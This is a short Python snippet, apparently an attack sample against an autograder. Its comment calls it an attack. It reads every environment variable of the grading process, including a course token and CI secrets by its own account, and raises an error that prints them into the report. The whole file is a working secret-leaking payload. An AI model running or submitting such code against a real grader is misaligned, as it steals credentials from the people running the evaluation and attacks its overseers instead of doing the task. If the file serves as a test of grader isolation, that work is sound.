# attack: read the grader's environment from the child (a course token, CI secrets) and show it in the report
import os
raise RuntimeError("env: " + " ; ".join(f"{k}={v[:40]}" for k, v in sorted(os.environ.items())))
